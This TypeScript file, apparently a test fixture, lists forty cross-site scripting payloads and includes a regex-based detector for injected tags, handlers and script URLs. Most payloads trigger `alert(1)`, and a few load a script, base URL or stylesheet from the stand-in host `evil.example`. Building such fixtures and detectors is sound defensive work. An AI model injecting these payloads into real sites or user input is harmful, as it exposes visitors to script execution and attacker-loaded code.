// Forty ways to slip a script into a page, and the look at a page that would find each of them.

export const scriptAttacks: readonly string[] = [
  `<script>alert(1)</script>`,
  `"><script>alert(1)</script>`,
  `'><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `</title><svg/onload=alert(1)>`,
  `</script><script>alert(1)//`,
  `</style><script>alert(1)</script>`,
  `</option></select><img src=x onerror=alert(1)>`,
  `</noscript><script>alert(1)</script>`,
  `--><script>alert(1)</script>`,
  `]]><script>alert(1)</script>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<script/src=//evil.example/x.js></script>`,
  `<script\u0000>alert(1)</script>`,
  `<<script>alert(1)//<</script>`,
  `<script>alert(String.fromCharCode(49))</script>`,
  `<img src=x onerror=alert(1)>`,
  `<img/src=x/onerror=alert(1)>`,
  `'><img src=x onerror=alert(1)>`,
  `"><img src=x onerror="alert(1)">`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<math><mtext><img src=x onerror=alert(1)></mtext></math>`,
  `<body onload=alert(1)>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="data:text/html,<script>alert(1)</script>">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<form action="javascript:alert(1)"><button>x</button></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `" autofocus onfocus="alert(1)`,
  `javascript:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
];

/** The forty in one value, each on a line of its own, for what shows a value as it was typed. */
export const allAttacks = scriptAttacks.join("\n");
/** These do harm only where a value begins with them. */
export const addressAttacks = scriptAttacks.filter((attack) => /^(javascript|data):/.test(attack));

const addresses = /\s(?:href|src|action|formaction|data|xlink:href|srcdoc|content)\s*=\s*["']?\s*(?:\d+;\s*url=)?\s*(?:javascript:|data:text|<|\/\/evil)/i;
const handlers = /[\s/"']on\w+\s*=/i;
const foreign = /^<(?:iframe|object|embed|base|math|video|source|details open)/i;

/** What in a page's markup came from outside: tags that we never write, handlers, addresses that run. */
export function scriptsIn(html: string): string[] {
  const tags = [...html.matchAll(/<[a-z!][^<>]*(?:>|$)/gi)].map(([tag]) => tag);
  const odd = tags.filter((tag) => handlers.test(tag) || addresses.test(tag) || foreign.test(tag));
  const scripts = [...html.matchAll(/<script[^a-z][^<]*/gi)].map(([script]) => script).filter((script) => /alert\(|evil\.example/.test(script));
  return [...odd, ...scripts];
}
